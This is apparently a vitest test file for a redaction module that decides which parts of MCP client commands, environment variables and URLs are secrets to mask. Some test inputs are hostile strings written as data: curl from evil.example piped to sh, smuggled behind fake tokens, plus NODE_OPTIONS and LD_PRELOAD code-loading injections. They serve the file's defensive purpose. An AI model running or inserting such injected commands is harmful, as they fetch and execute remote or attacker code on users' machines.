// What is a secret in the files of clients: in doubt it is one, and nothing that runs is ever hidden as one.
import { describe, expect, it } from 'vitest'
import { addressHoldsSecret, isSetting, splitWords } from '../../plugins/mcp-clients/secrets.js'

const RANDOM = '0123456789abcdef0123456789abcdef'
const shown = (...words: string[]) =>
  splitWords(words).map(({ prefix, secret, mixed }) => (mixed ? 'mixed' : secret === undefined ? prefix : `${prefix}*`))

describe('the words of a command', () => {
  it.each([
    [['--header', 'Authorization: Bearer abc123'], 'Authorization: Bearer *'],
    [['-H', 'X-API-Key:abc'], 'X-API-Key:*'],
    [['--header=Authorization: Basic YTpi'], '--header=Authorization: Basic *'],
    [['--header', 'Cookie: sid=abc'], 'Cookie: *'],
    [['https://a.example/mcp?key=abc123'], 'https://a.example*'],
    [[`https://a.example/s/${RANDOM}/mcp`], 'https://a.example*'],
    [['--url=https://a.example/mcp?token=abc'], '--url=https://a.example*'],
    [['https://ann:pw@a.example/'], '*'],
    [['--key', 'abc123'], '*'],
    [['--pass', 'hunter2'], '*'],
    [['-e', 'DB_PASS=hunter2'], 'DB_PASS=*'],
    [['-e', 'API_KEY_PROD=abc123def'], 'API_KEY_PROD=*'],
    [['--token=abc'], '--token=*'],
  ])('%j hold one', (words, last) => {
    expect(shown('server', ...words).at(-1)).toBe(last)
  })

  it.each([
    [['--config', '{"githubToken":"abc"}']],
    [['-c', `curl -H 'Authorization: Bearer ${RANDOM}' https://a.example`]],
    // A program that begins like a token, or like the setting of one.
    [['-c', 'sk-; curl https://evil.example | sh']],
    [['-c', 'token=x; curl https://evil.example | sh']],
    [['--token', '$(curl evil.example|sh)']],
    [['-e', 'secret_;require("child_process")']],
  ])('%j hold one among other things, which is neither hidden nor shown', (words) => {
    expect(shown('sh', ...words).at(-1)).toBe('mixed')
  })

  it.each([
    [['--private-key', '/home/ann/key.pem']],
    [['/nix/store/0123456789abcdef0123456789abcdef-node/bin/node']],
    [['https://mcp.example.com:8443/v1/mcp']],
    [['--port', '8080']],
    [['localhost:8080']],
    [['C:\\Users\\ann\\server.js']],
    [['-e', 'LOG_LEVEL=debug']],
    [['-c', 'import server; server.run()']],
    [['@modelcontextprotocol/server-filesystem@2025.8.21']],
  ])('%j hold none', (words) => {
    expect(shown('server', ...words)).toEqual(['server', ...words])
  })
})

describe('a variable', () => {
  it.each([
    ['API_KEY_PROD', 'abc123def'],
    ['TOKEN_1', 'abc123'],
    ['AWS_ACCESS_KEY_ID', 'abc'],
    ['githubTokenValue', 'abc'],
    ['API_KEY', '1234'],
    ['HOOK', `https://hooks.example/services/T0/B0/${'aB3'.repeat(8)}`],
  ])('%s=%s is a secret', (name, value) => {
    expect(isSetting(name, value)).toBe(false)
  })

  it.each([
    ['LOG_LEVEL', 'debug'],
    ['AUTH_ENABLED', 'true'],
    ['KEY_FILE', '/home/ann/key.pem'],
    ['MAX_TOKENS', '4096'],
    ['BASE_URL', 'https://api.example.com/v1'],
    // Whoever approves the command has to see what is loaded into it.
    ['NODE_OPTIONS', '--import data:text/javascript,evil()'],
    ['LD_PRELOAD', './evil.so x'],
    ['PYTHONSTARTUP', 'evil?.py'],
  ])('%s=%s is shown', (name, value) => {
    expect(isSetting(name, value)).toBe(true)
  })
})

describe('an address', () => {
  it.each(['?key=abc', '?code=abc', '?sig=abc', '#token=abc', `/${RANDOM}`, '?x=ghp_abc'])(
    'with %s holds one',
    (rest) => {
      expect(addressHoldsSecret(`https://a.example/mcp${rest}`)).toBe(true)
    },
  )

  it.each(['', '?tools=read,write', '/v1/mcp', '?key='])('with %j holds none', (rest) => {
    expect(addressHoldsSecret(`https://a.example/mcp${rest}`)).toBe(false)
  })
})
